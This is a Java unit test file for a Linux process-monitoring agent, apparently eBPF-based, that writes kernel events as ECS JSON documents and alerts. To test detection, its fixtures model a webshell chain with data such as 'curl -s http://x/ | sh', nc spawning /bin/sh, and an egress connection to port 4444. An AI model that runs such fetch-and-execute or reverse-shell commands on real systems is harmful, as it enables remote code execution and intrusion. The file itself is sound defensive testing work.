package io.spawnwatch.ecs;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.core.JsonFactory;
import com.fasterxml.jackson.core.JsonGenerator;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.spawnwatch.enrich.BootClock;
import io.spawnwatch.enrich.ContainerIds;
import io.spawnwatch.enrich.EnrichedEvent;
import io.spawnwatch.enrich.ProcessTable;
import io.spawnwatch.enrich.UserNames;
import io.spawnwatch.event.TestRecords;
import io.spawnwatch.rules.model.RuleMetadata;
import java.io.StringWriter;
import java.lang.foreign.MemorySegment;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** ECS documents from synthetic records laid out as the kernel writes them (the kernel tests check real ones). */
class EcsEventWriterTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    @TempDir
    Path dir;
    private EnrichedEvent event;
    static final HostIdentity HOST = TestIdentities.host("web1");
    static final AgentIdentity AGENT = TestIdentities.agent("web1");
    private final EcsEventWriter writer = new EcsEventWriter(HOST, AGENT);
    private ProcessTable table;

    @BeforeEach
    void setUp() throws Exception {
        Path passwd = Files.writeString(dir.resolve("passwd"), "root:x:0:0::/root:/bin/sh\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n");
        Path proc = Files.createDirectory(dir.resolve("proc")); // empty: nothing to read for unknown pids
        table = new ProcessTable(64, proc);
        event = new EnrichedEvent(table, new UserNames(passwd), new ContainerIds(proc), new BootClock());
        // The web server and the shell, as earlier exec events made them known.
        wrap(TestRecords.exec(100, 1, "php-fpm8.2", "systemd", "/usr/sbin/php-fpm8.2", "/", "/usr/lib/systemd/systemd",
                0, 0, 0, "php-fpm: master process"));
        wrap(TestRecords.exec(200, 100, "php-fpm8.2", "php-fpm8.2", "/usr/sbin/php-fpm8.2", "/", "/usr/sbin/php-fpm8.2",
                33, 100, 1, "php-fpm: pool www"));
    }

    /** Decodes the record and, as the pipeline's process stage does for a kept exec, records it in the table. */
    private void wrap(MemorySegment record) {
        assertTrue(event.wrap(record, 0));
        if (event.type() == io.spawnwatch.event.EventType.EXEC) {
            table.recordExec(event.exec());
        }
    }

    private JsonNode document() throws Exception {
        StringWriter out = new StringWriter();
        try (JsonGenerator g = new JsonFactory().createGenerator(out)) {
            writer.writeEvent(g, event);
        }
        return JSON.readTree(out.toString());
    }

    private JsonNode alert(RuleMetadata rule, long repeats) throws Exception {
        StringWriter out = new StringWriter();
        try (JsonGenerator g = new JsonFactory().createGenerator(out)) {
            writer.writeAlert(g, event, rule, repeats);
        }
        return JSON.readTree(out.toString());
    }

    /**
     * The one table of names (Field.ecsName) and the writer agree: every field
     * a rule can read is written under its ECS name with the value the rule sees.
     */
    @Test
    void shouldWriteEveryRuleFieldUnderTheEcsNameOfTheTable() throws Exception {
        List<String> checked = new java.util.ArrayList<>();
        for (MemorySegment r : List.of(
                TestRecords.withParentCwd(TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash",
                        "/var/www/html", "/usr/sbin/php-fpm8.2", 33, 100, 2, "sh", "-c", "id"), "/var/www"),
                TestRecords.connect(200, 100, "php-fpm8.2", "php-fpm8.2", 33, 100, 1, "10.0.0.5", "203.0.113.9",
                        4444),
                // nc started through its symlink, then the shell it runs, started as /bin/sh.
                TestRecords.startedAs(TestRecords.exec(301, 300, "nc", "sh", "/usr/bin/nc.openbsd", "/var/www/html",
                        "/usr/bin/dash", 33, 100, 3, "nc", "-w1", "127.0.0.1", "9"), "/usr/bin/nc"),
                TestRecords.startedAs(TestRecords.exec(302, 301, "sh", "nc", "/usr/bin/dash", "/var/www/html",
                        "/usr/bin/nc.openbsd", 33, 100, 4, "/bin/sh"), "/bin/sh"))) {
            wrap(r);
            JsonNode d = document();
            for (io.spawnwatch.event.Field f : io.spawnwatch.event.Field.values()) {
                if (f.ecsName() == null) {
                    continue;
                }
                JsonNode n = d.at("/" + f.ecsName().replace('.', '/'));
                if (f.kind() == io.spawnwatch.event.Field.Kind.LIST) {
                    List<String> items = new java.util.ArrayList<>();
                    for (CharSequence item = event.item(f, 0); item != null; item = event.item(f, items.size())) {
                        items.add(item.toString());
                    }
                    List<String> written = new java.util.ArrayList<>();
                    n.forEach(x -> written.add(x.asText()));
                    assertEquals(items, written, f.ecsName());
                } else if (f.kind() == io.spawnwatch.event.Field.Kind.NUMBER) {
                    long v = event.number(f);
                    assertEquals(v == io.spawnwatch.event.EventView.ABSENT ? null : Long.toString(v),
                            n.isMissingNode() ? null : n.asText(), f.ecsName());
                } else {
                    CharSequence v = event.text(f);
                    assertEquals(v == null ? null : v.toString(), n.isMissingNode() ? null : n.asText(),
                            f.ecsName());
                }
                if (!n.isMissingNode()) {
                    checked.add(f.ecsName());
                }
            }
        }
        assertTrue(checked.containsAll(List.of("process.executable", "process.args", "process.parent.args",
                "user.id", "process.real_user.id", "destination.ip", "spawnwatch.lineage.root.pid",
                "spawnwatch.process.invoked_path", "spawnwatch.process.parent.invoked_path")), checked.toString());
    }

    @Test
    void shouldGiveEachProcessOneEntityIdThatItsChildrenCarryAsTheirParents() throws Exception {
        wrap(TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html", "/usr/sbin/php-fpm8.2",
                33, 100, 2, "sh", "-c", "curl -s http://x/ | sh"));
        JsonNode shell = document();
        wrap(TestRecords.exec(301, 300, "curl", "sh", "/usr/bin/curl", "/var/www/html", "/usr/bin/dash",
                33, 100, 3, "curl", "-s", "http://x/"));
        JsonNode curl = document();
        String shellId = shell.at("/process/entity_id").asText();
        assertEquals(20, shellId.length(), shellId);
        assertEquals(shellId, curl.at("/process/parent/entity_id").asText());
        assertNotEquals(shellId, curl.at("/process/entity_id").asText());
        assertEquals(shell.at("/process/start").asText(), curl.at("/process/parent/start").asText());
        // The same pid and start on another host (or after a reboot) is another process.
        HostIdentity other = new HostIdentity("ffffffffffffffffffffffffffffffff", "web2", null, null, null, null, null,
                null, "x86_64", HOST.bootId());
        assertNotEquals(shellId, new EntityIds(other).of(300, TestRecords.startBootNanos(300)));
        assertEquals(shellId, new EntityIds(HOST).of(300, TestRecords.startBootNanos(300)));
    }

    private static void setProcessField(MemorySegment r, int offset, long value, boolean wide) {
        long at = io.spawnwatch.event.RecordDescriptor.PROCESS_OFFSET + offset;
        if (wide) {
            r.set(java.lang.foreign.ValueLayout.JAVA_LONG_UNALIGNED, at, value);
        } else {
            r.set(java.lang.foreign.ValueLayout.JAVA_INT_UNALIGNED, at, (int) value);
        }
    }

    @Test
    void shouldGiveTheSameEntityIdFromItsCacheAsFromAFreshHash() {
        EntityIds cached = new EntityIds(HOST);
        java.util.Set<String> distinct = new java.util.HashSet<>();
        for (int round = 0; round < 2; round++) {
            for (int pid = 1; pid <= 300; pid++) {
                long start = 1_000_000_000L * pid + round; // two processes per pid: a reuse
                String id = cached.of(pid, start);
                assertEquals(new EntityIds(HOST).of(pid, start), id);
                distinct.add(id);
            }
        }
        assertEquals(600, distinct.size());
        assertEquals(null, cached.of(5, 0));
    }

    @Test
    void shouldLeaveTheParentEntityIdOutWhenItsStartIsUnknown() throws Exception {
        MemorySegment r = TestRecords.exec(300, 777, "sh", "nginx", "/usr/bin/dash", "/var/www", "/usr/sbin/nginx",
                33, 777, 1, "sh", "-c", "id");
        setProcessField(r, io.spawnwatch.event.ProcessDescriptor.PARENT_START_BOOT_NS_OFFSET, 0, true);
        wrap(r);
        JsonNode d = document();
        assertTrue(d.at("/process/entity_id").isTextual());
        assertTrue(d.at("/process/parent/entity_id").isMissingNode(), d.toString());
        assertTrue(d.at("/process/parent/start").isMissingNode(), d.toString());
    }

    @Test
    void shouldWriteTheTerminalSessionGroupAndEffectiveGroup() throws Exception {
        MemorySegment r = TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html",
                "/usr/sbin/php-fpm8.2", 33, 100, 2, "sh", "-c", "id");
        setProcessField(r, io.spawnwatch.event.ProcessDescriptor.TTY_OFFSET, (136 << 8) | 3, false); // /dev/pts/3
        setProcessField(r, io.spawnwatch.event.ProcessDescriptor.SID_OFFSET, 250, false);
        setProcessField(r, io.spawnwatch.event.ProcessDescriptor.PGID_OFFSET, 290, false);
        setProcessField(r, io.spawnwatch.event.ProcessDescriptor.EGID_OFFSET, 0, false);
        wrap(r);
        JsonNode d = document();
        assertTrue(d.at("/process/interactive").asBoolean());
        assertEquals(136, d.at("/process/tty/char_device/major").asInt());
        assertEquals(3, d.at("/process/tty/char_device/minor").asInt());
        assertEquals(250, d.at("/process/session_leader/pid").asInt());
        assertEquals(290, d.at("/process/group_leader/pid").asInt());
        assertEquals("0", d.at("/process/group/id").asText());
        assertEquals("0", d.at("/group/id").asText());
        assertEquals("33", d.at("/process/real_group/id").asText());
        // The lineage root as an instance: its entity id is the one its own documents carry.
        assertEquals(new EntityIds(HOST).of(100, TestRecords.startBootNanos(100)),
                d.at("/spawnwatch/lineage/root/entity_id").asText());

        wrap(TestRecords.exec(301, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html", "/usr/sbin/php-fpm8.2",
                33, 100, 2, "sh", "-c", "id"));
        JsonNode noTerminal = document();
        assertFalse(noTerminal.at("/process/interactive").asBoolean());
        assertTrue(noTerminal.at("/process/tty").isMissingNode());
    }

    @Test
    void shouldWriteHostAgentAndEcsVersionAndAnIdPerDocument() throws Exception {
        wrap(TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html", "/usr/sbin/php-fpm8.2",
                33, 100, 2, "sh", "-c", "id"));
        JsonNode a = document();
        JsonNode b = document();
        assertEquals("9.3.0", a.at("/ecs/version").asText());
        assertEquals("4c4c4544004e3510804bb4c04f4e3232", a.at("/host/id").asText());
        assertEquals("linux", a.at("/host/os/type").asText());
        assertEquals("debian", a.at("/host/os/family").asText());
        assertEquals("debian", a.at("/host/os/platform").asText());
        assertEquals("Debian GNU/Linux", a.at("/host/os/name").asText());
        assertEquals("12 (bookworm)", a.at("/host/os/version").asText());
        assertEquals("6.18.0-test", a.at("/host/os/kernel").asText());
        assertEquals("x86_64", a.at("/host/architecture").asText());
        assertEquals(AGENT.id(), a.at("/agent/id").asText());
        assertEquals("spawnwatch", a.at("/agent/type").asText());
        assertEquals("0.1.0", a.at("/agent/version").asText());
        assertEquals("web1", a.at("/agent/name").asText());
        assertNotEquals(a.at("/event/id").asText(), b.at("/event/id").asText());
        assertEquals(32, a.at("/event/id").asText().length());
        assertTrue(java.time.Instant.parse(a.at("/event/created").asText()).isAfter(java.time.Instant.now().minusSeconds(60)));
    }

    @Test
    void shouldTellTheEffectiveUserFromTheRealOne() throws Exception {
        MemorySegment r = TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html",
                "/usr/sbin/php-fpm8.2", 33, 100, 2, "sh", "-c", "id");
        r.set(java.lang.foreign.ValueLayout.JAVA_INT_UNALIGNED,
                io.spawnwatch.event.RecordDescriptor.PROCESS_OFFSET + io.spawnwatch.event.ProcessDescriptor.EUID_OFFSET, 0);
        wrap(r); // a setuid-root program run by www-data
        JsonNode d = document();
        assertEquals("0", d.at("/process/user/id").asText());
        assertEquals("root", d.at("/process/user/name").asText());
        assertEquals("0", d.at("/user/id").asText());
        assertEquals("33", d.at("/process/real_user/id").asText());
        assertEquals("www-data", d.at("/process/real_user/name").asText());
    }

    @Test
    void shouldGiveAnAlertAOneLineMessage() throws Exception {
        wrap(TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html", "/usr/sbin/php-fpm8.2",
                33, 100, 2, "sh", "-c", "id\nuname -a"));
        RuleMetadata rule = io.spawnwatch.rules.Rules.compile(io.spawnwatch.rules.Rules.rule("process_creation",
                "    sel:\n        ProcessName: sh\n    condition: sel\n")).metadata();
        JsonNode d = alert(rule, 3);
        assertEquals("t: php-fpm8.2 > php-fpm8.2 > sh ran 'sh -c id uname -a' as www-data (pid 300) on web1;"
                + " 3 repeats suppressed before", d.at("/message").asText());
        assertEquals("alert", d.at("/event/kind").asText());
    }

    /**
     * Names, paths, arguments and users that are not ASCII come out as the text they spell, everywhere: in
     * the fields read from the record, in those the enricher assembles (the lineage chain), in user names from
     * /etc/passwd, and in an alert's message (the rules see them all as UTF-8 bytes, one per char).
     */
    @Test
    void shouldWriteNonAsciiTextAsTheTextItSpells() throws Exception {
        Files.writeString(dir.resolve("passwd"), "root:x:0:0::/root:/bin/sh\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n"
                + "jos\u00e9:x:1001:1001::/home/jose:/bin/sh\n");
        event = new EnrichedEvent(table, new UserNames(dir.resolve("passwd")), new ContainerIds(dir.resolve("proc")),
                new BootClock());
        wrap(TestRecords.exec(300, 200, "caf\u00e9", "php-fpm8.2", "/srv/\u00e9t\u00e9/caf\u00e9", "/srv/\u00e9t\u00e9",
                "/usr/sbin/php-fpm8.2", 1001, 100, 2, "caf\u00e9", "cr\u00e8me br\u00fbl\u00e9e"));
        JsonNode d = document();
        assertEquals("caf\u00e9", d.at("/process/name").asText());
        assertEquals("/srv/\u00e9t\u00e9/caf\u00e9", d.at("/process/executable").asText());
        assertEquals("/srv/\u00e9t\u00e9", d.at("/process/working_directory").asText());
        assertEquals("caf\u00e9 cr\u00e8me br\u00fbl\u00e9e", d.at("/process/command_line").asText());
        assertEquals("[\"caf\u00e9\",\"cr\u00e8me br\u00fbl\u00e9e\"]", d.at("/process/args").toString());
        assertEquals("jos\u00e9", d.at("/user/name").asText());
        assertEquals("php-fpm8.2 > php-fpm8.2 > caf\u00e9", d.at("/spawnwatch/lineage/chain").asText());

        RuleMetadata rule = io.spawnwatch.rules.Rules.compile(io.spawnwatch.rules.Rules.rule("process_creation",
                "    sel:\n        ProcessName: caf\u00e9\n    condition: sel\n")).metadata();
        assertEquals("t: php-fpm8.2 > php-fpm8.2 > caf\u00e9 ran 'caf\u00e9 cr\u00e8me br\u00fbl\u00e9e' as jos\u00e9"
                + " (pid 300) on web1", alert(rule, 0).at("/message").asText());
        // A rule names the user as a person writes it, and matches the name read from /etc/passwd.
        assertTrue(io.spawnwatch.rules.Rules.compile(io.spawnwatch.rules.Rules.rule("process_creation",
                "    sel:\n        User: jos\u00e9\n    condition: sel\n")).detection().matches(event));
    }

    /** The command line is made of the arguments: when the kernel cut argv, both are listed as truncated. */
    @Test
    void shouldListTheCommandLineAsTruncatedWhenTheArgumentsAre() throws Exception {
        MemorySegment r = TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html",
                "/usr/sbin/php-fpm8.2", 33, 100, 2, "sh", "-c", "echo AAAA");
        r.set(java.lang.foreign.ValueLayout.JAVA_SHORT_UNALIGNED,
                io.spawnwatch.event.ExecRecordDescriptor.TRUNCATED_OFFSET,
                (short) io.spawnwatch.event.ExecRecordDescriptor.TRUNC_ARGS);
        wrap(r);
        assertEquals("[\"process.args\",\"process.command_line\"]", document().at("/spawnwatch/truncated").toString());
    }

    @Test
    void shouldWriteAnExecAsAnEcsProcessStartWithItsLineage() throws Exception {
        wrap(TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html", "/usr/sbin/php-fpm8.2",
                33, 100, 2, "sh", "-c", "id; uname -a"));
        JsonNode d = document();
        assertEquals("event", d.at("/event/kind").asText());
        assertEquals("[\"process\"]", d.at("/event/category").toString());
        assertEquals("[\"start\"]", d.at("/event/type").toString());
        assertEquals("exec", d.at("/event/action").asText());
        assertEquals("web1", d.at("/host/name").asText());
        assertEquals(300, d.at("/process/pid").asInt());
        assertEquals("sh", d.at("/process/name").asText());
        assertEquals("/usr/bin/dash", d.at("/process/executable").asText());
        assertEquals("[\"sh\",\"-c\",\"id; uname -a\"]", d.at("/process/args").toString());
        assertEquals(3, d.at("/process/args_count").asInt());
        assertEquals("sh -c id; uname -a", d.at("/process/command_line").asText());
        assertEquals("/var/www/html", d.at("/process/working_directory").asText());
        assertEquals(200, d.at("/process/parent/pid").asInt());
        assertEquals("php-fpm8.2", d.at("/process/parent/name").asText());
        assertEquals("php-fpm: pool www", d.at("/process/parent/command_line").asText());
        assertEquals("[\"php-fpm: pool www\"]", d.at("/process/parent/args").toString());
        assertEquals(1, d.at("/process/parent/args_count").asInt());
        assertEquals("33", d.at("/user/id").asText());
        assertEquals("www-data", d.at("/user/name").asText());
        assertEquals(2, d.at("/spawnwatch/lineage/depth").asInt());
        assertEquals(100, d.at("/spawnwatch/lineage/root/pid").asInt());
        assertEquals("php-fpm8.2", d.at("/spawnwatch/lineage/root/name").asText());
        assertEquals("php-fpm8.2 > php-fpm8.2 > sh", d.at("/spawnwatch/lineage/chain").asText());
        assertFalse(d.has("container"), "no container id for a host process");
        assertTrue(d.at("/@timestamp").asText().endsWith("Z"));
    }

    @Test
    void shouldWriteThePathAProgramWasStartedByBesideTheResolvedExecutable() throws Exception {
        wrap(TestRecords.startedAs(TestRecords.exec(301, 200, "nc", "php-fpm8.2", "/usr/bin/nc.openbsd",
                "/var/www/html", "/usr/sbin/php-fpm8.2", 33, 100, 2, "nc", "-w1", "127.0.0.1", "9"), "/usr/bin/nc"));
        JsonNode nc = document();
        assertEquals("/usr/bin/nc.openbsd", nc.at("/process/executable").asText(), "ECS: the file the kernel runs");
        assertEquals("/usr/bin/nc", nc.at("/spawnwatch/process/invoked_path").asText());
        assertTrue(nc.at("/spawnwatch/process/parent").isMissingNode(), "php-fpm was started by its own path");
        assertFalse(nc.at("/process").has("invoked_path"), "not an ECS field");

        wrap(TestRecords.startedAs(TestRecords.exec(302, 301, "sh", "nc", "/usr/bin/dash", "/var/www/html",
                "/usr/bin/nc.openbsd", 33, 100, 3, "/bin/sh"), "/bin/sh"));
        JsonNode sh = document();
        assertEquals("/bin/sh", sh.at("/spawnwatch/process/invoked_path").asText());
        assertEquals("/usr/bin/nc.openbsd", sh.at("/process/parent/executable").asText());
        assertEquals("/usr/bin/nc", sh.at("/spawnwatch/process/parent/invoked_path").asText());

        wrap(TestRecords.exec(303, 200, "id", "php-fpm8.2", "/usr/bin/id", "/var/www/html", "/usr/sbin/php-fpm8.2",
                33, 100, 2, "id"));
        assertTrue(document().at("/spawnwatch/process").isMissingNode(), "started by its own path: nothing to add");
    }

    @Test
    void shouldWriteAConnectAsAnEcsNetworkConnectionAttempt() throws Exception {
        wrap(TestRecords.connect(200, 100, "php-fpm8.2", "php-fpm8.2", 33, 100, 1, "10.0.0.5", "203.0.113.9",
                4444));
        JsonNode d = document();
        assertEquals("[\"network\"]", d.at("/event/category").toString());
        assertEquals("[\"connection\",\"start\"]", d.at("/event/type").toString());
        assertEquals("connection_attempted", d.at("/event/action").asText());
        assertEquals("10.0.0.5", d.at("/source/ip").asText());
        assertFalse(d.at("/source").has("port"), "the tracepoint hook has no source port yet");
        assertEquals("203.0.113.9", d.at("/destination/ip").asText());
        assertEquals(4444, d.at("/destination/port").asInt());
        assertEquals("tcp", d.at("/network/transport").asText());
        assertEquals("ipv4", d.at("/network/type").asText());
        assertEquals("egress", d.at("/network/direction").asText());
        assertEquals("/usr/sbin/php-fpm8.2", d.at("/process/executable").asText());
        assertEquals("php-fpm: pool www", d.at("/process/command_line").asText());
    }

    @Test
    void shouldWriteAListenAsAnIngressNetworkStartWithTheListenerAsDestination() throws Exception {
        wrap(TestRecords.listen(300, 200, "nc", "sh", 33, 100, 2, "0.0.0.0", 4445));
        JsonNode d = document();
        assertEquals("[\"network\"]", d.at("/event/category").toString());
        assertEquals("[\"start\"]", d.at("/event/type").toString());
        assertEquals("listen", d.at("/event/action").asText());
        assertEquals("0.0.0.0", d.at("/destination/ip").asText());
        assertEquals(4445, d.at("/destination/port").asInt());
        assertTrue(d.at("/source").isMissingNode(), "a listener has no peer yet");
        assertEquals("ingress", d.at("/network/direction").asText());
        assertEquals("tcp", d.at("/network/transport").asText());
        assertEquals("ipv4", d.at("/network/type").asText());
        assertEquals("tracepoint/sock/inet_sock_set_state", d.at("/spawnwatch/hook").asText());
        assertEquals(2, d.at("/spawnwatch/lineage/depth").asInt());
    }

    @Test
    void shouldNameListenSyscallExitAsTheListenHook() throws Exception {
        MemorySegment r = TestRecords.listen(300, 200, "nc", "sh", 33, 100, 2, "0.0.0.0", 4445);
        r.set(java.lang.foreign.ValueLayout.JAVA_INT_UNALIGNED, io.spawnwatch.event.ListenRecordDescriptor.HOOK_OFFSET,
                io.spawnwatch.event.ListenRecordDescriptor.HOOK_TP_SYS_EXIT_LISTEN);
        wrap(r);
        assertEquals("tracepoint/syscalls/sys_exit_listen", document().at("/spawnwatch/hook").asText());
    }

    @Test
    void shouldWriteIpv6AddressesInTheirShortForm() throws Exception {
        wrap(TestRecords.connect(200, 100, "php-fpm8.2", "php-fpm8.2", 33, 100, 1, "::1", "2001:db8:0:0:0:0:0:7",
                443));
        JsonNode d = document();
        assertEquals("2001:db8::7", d.at("/destination/ip").asText());
        assertEquals("ipv6", d.at("/network/type").asText());
    }

    @Test
    void shouldWriteAFileEventWithItsPathParts() throws Exception {
        wrap(TestRecords.file(200, 100, "php-fpm8.2", "php-fpm8.2", 33, 100, 1,
                io.spawnwatch.event.FileRecordDescriptor.ACTION_CHMOD,
                io.spawnwatch.event.FileRecordDescriptor.CLASS_WRITABLE, 0755, "/tmp/.cache/x.sh"));
        JsonNode d = document();
        assertEquals("file", d.at("/event/category/0").asText());
        assertEquals("change", d.at("/event/type/0").asText());
        assertEquals("chmod", d.at("/event/action").asText());
        assertEquals("spawnwatch.file", d.at("/event/dataset").asText());
        assertEquals("/tmp/.cache/x.sh", d.at("/file/path").asText());
        assertEquals("x.sh", d.at("/file/name").asText());
        assertEquals("sh", d.at("/file/extension").asText());
        assertEquals("/tmp/.cache", d.at("/file/directory").asText());
        assertEquals("0755", d.at("/file/mode").asText());
        assertEquals("writable", d.at("/spawnwatch/file/class").asText());
        assertEquals("/usr/sbin/php-fpm8.2", d.at("/process/executable").asText());
        assertTrue(d.at("/destination").isMissingNode());
    }

    @Test
    void shouldWriteADnsQueryAsANetworkEventWithItsQuestion() throws Exception {
        byte[] query = {0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 3, 'a', 'p', 'i', 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e',
            3, 'c', 'o', 'm', 0, 0, 28, 0, 1};
        wrap(TestRecords.dns(200, 100, "php-fpm8.2", "php-fpm8.2", 33, 100, 1, "10.0.0.2", query));
        JsonNode d = document();
        assertEquals("network", d.at("/event/category/0").asText());
        assertEquals("protocol", d.at("/event/type/0").asText());
        assertEquals("dns_query", d.at("/event/action").asText());
        assertEquals("10.0.0.2", d.at("/destination/ip").asText());
        assertEquals(53, d.at("/destination/port").asInt());
        assertEquals("udp", d.at("/network/transport").asText());
        assertEquals("dns", d.at("/network/protocol").asText());
        assertEquals("query", d.at("/dns/type").asText());
        assertEquals("api.example.com", d.at("/dns/question/name").asText());
        assertEquals("AAAA", d.at("/dns/question/type").asText());
        assertTrue(d.at("/source").isMissingNode());
        assertEquals("api.example.com", event.text(io.spawnwatch.event.Field.DESTINATION_HOSTNAME).toString());

        query[2] = (byte) 0x81; // a response, not a query
        wrap(TestRecords.dns(200, 100, "php-fpm8.2", "php-fpm8.2", 33, 100, 1, "10.0.0.2", query));
        d = document();
        assertTrue(d.at("/dns").isMissingNode());
        assertEquals("payload is not a DNS query", d.at("/spawnwatch/dns").asText());
        assertEquals(null, event.text(io.spawnwatch.event.Field.DESTINATION_HOSTNAME));
    }
}
